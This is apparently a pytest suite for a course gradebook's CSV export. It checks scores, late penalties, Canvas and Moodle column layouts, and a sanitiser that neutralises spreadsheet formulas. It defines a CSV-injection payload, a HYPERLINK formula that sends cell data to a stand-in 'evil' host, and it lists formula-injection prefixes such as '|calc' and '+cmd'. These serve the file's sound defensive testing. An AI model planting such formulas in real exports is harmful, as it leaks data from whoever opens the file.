"""What leaves the gradebook as CSV is complete, right, and harmless in a spreadsheet."""

import csv
import io

import pytest
import tiny_lab
from hypothesis import given
from hypothesis import strategies as st
from nbgrader.api import Gradebook
from tiny_lab import LAB

from coursekit import cli
from coursekit.grading import export
from coursekit.grading.config import COURSE_ID

EVIL = '=HYPERLINK("http://evil/?x="&A1,"click")'


@pytest.fixture
def graded(course):
    """Three students: partial credit and late; everything by hand; nothing handed in."""
    with Gradebook(f"sqlite:///{course}/gradebook.db", COURSE_ID) as book:
        book.update_or_create_assignment(LAB, duedate="2026-11-20 10:00:00 UTC")
        book.add_student("ann", first_name="Ann", last_name=EVIL, email="ann@uni.edu", lms_user_id="77")
        book.add_student("bob", first_name="Bob", last_name="O'Brien, Jr.")
        book.add_student("cid")
        book.add_submission(LAB, "ann", timestamp="2026-11-20 10:01:30 UTC")
        book.add_submission(LAB, "bob", timestamp="2026-11-20 09:00:00 UTC")
        given_scores = {"ann": [("double-test", 2.0), ("mean-test", 1.5)], "bob": [("double-test", 0.5)]}
        for student, cells in given_scores.items():
            for cell, score in cells:
                grade = book.find_grade(cell, LAB, LAB, student)
                grade.auto_score, grade.needs_manual_grade = score, False
        by_hand = book.find_grade("explain", LAB, LAB, "ann")
        by_hand.manual_score, by_hand.extra_credit, by_hand.needs_manual_grade = 3.0, 0.25, False
        book.find_submission_notebook(LAB, LAB, "ann").late_submission_penalty = 1.0
        book.db.commit()
    return course


def parsed(course, **options):
    text = export.write(export.table(course=course, **options))
    return list(csv.DictReader(io.StringIO(text)))


def test_every_task_and_total(graded):
    ann, bob, cid = parsed(graded)
    assert [row["student"] for row in (ann, bob, cid)] == ["ann", "bob", "cid"]
    assert [ann[f"tiny/tiny/{cell}"] for cell in tiny_lab.POINTS] == ["2.0", "1.5", "3.25"]
    assert (ann["score"], ann["late_penalty"], ann["total"], ann["max_score"]) == (
        "6.75",
        "1.0",
        "5.75",
        "9.0",
    )
    assert (ann["seconds_late"], ann["submitted"]) == ("90.0", "2026-11-20 10:01:30 UTC")
    assert (ann["needs_manual_grade"], bob["needs_manual_grade"]) == ("no", "yes")
    assert bob["total"] == "0.5"
    assert bob["last_name"] == "O'Brien, Jr."
    assert (cid["submitted"], cid["total"], cid["tiny/tiny/double-test"]) == ("", "0.0", "")


def test_a_penalty_never_makes_a_total_negative(graded):
    with Gradebook(f"sqlite:///{graded}/gradebook.db", COURSE_ID) as book:
        book.find_submission_notebook(LAB, LAB, "ann").late_submission_penalty = 100.0
        book.db.commit()
    assert parsed(graded)[0]["total"] == "0.0"
    assert parsed(graded, format="moodle")[0]["tiny"] == "0.0"


def test_formulas_are_text(graded):
    assert parsed(graded)[0]["last_name"] == "'" + EVIL
    assert parsed(graded, format="canvas")[1]["Student"].startswith("'=")


@pytest.mark.parametrize(
    "text",
    ["=1", "+cmd", "-2+3", "@SUM(A1)", " =1", "\t=1", "\r=1", "\n=1", "|calc", "＝1", "%0A=1", "\0=1", "-"],
)
def test_what_a_spreadsheet_would_calculate_gets_an_apostrophe(text):
    assert str(export.harmless(text)).startswith("'")


@pytest.mark.parametrize("value", [1, -2.5, 0.0, "-2.5", "+3", "12", "Ann", "a=b", "O'Brien", ""])
def test_numbers_and_plain_text_stay(value):
    assert export.harmless(value) == value


@given(st.text())
def test_no_text_begins_like_a_formula(text):
    found = export.harmless(text)
    begins = found.lstrip().startswith(("=", "+", "-", "@"))
    assert not begins or export._NUMBER.fullmatch(found)


@given(st.lists(st.lists(st.text(alphabet=st.characters(exclude_characters="\0\r")), min_size=2, max_size=2)))
def test_csv_reads_back(rows):
    back = list(csv.reader(io.StringIO(export.write(rows))))
    assert back == [[export.harmless(cell) for cell in row] for row in rows]


def test_canvas_and_moodle_columns(graded):
    header, most, ann, bob, cid = export.table(course=graded, format="canvas")
    assert header == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "tiny"]
    assert most == ["    Points Possible", "", "", "", "", 9.0]
    assert ann[1:] == ["77", "ann", "ann", "", 5.75]
    assert bob[0] == "O'Brien, Jr., Bob"
    assert cid == ["cid", None, "cid", "cid", "", None]
    header, ann, *_ = export.table(course=graded, format="moodle")
    assert header == ["Username", "Email address", "tiny"]
    assert ann == ["ann", "ann@uni.edu", 5.75]


def test_mistakes_are_named(graded):
    with pytest.raises(ValueError, match="nolab"):
        export.table(["nolab"], course=graded)
    with pytest.raises(ValueError, match="format"):
        export.table(course=graded, format="excel")


def test_the_command_prints_or_writes(graded, tmp_path, capsys):
    assert cli.main(["export", "--course", str(graded)]) == 0
    assert capsys.readouterr().out.startswith("lab,student,")
    file = tmp_path / "out.csv"
    assert cli.main(["export", LAB, "--course", str(graded), "--output", str(file)]) == 0
    assert file.read_bytes().startswith(b"\xef\xbb\xbflab,student,")
    assert "3 rows" in capsys.readouterr().out
    assert cli.main(["export", "--format", "canvas", "--course", str(graded), "--output", str(file)]) == 0
    assert file.read_bytes().startswith(b"Student,ID")
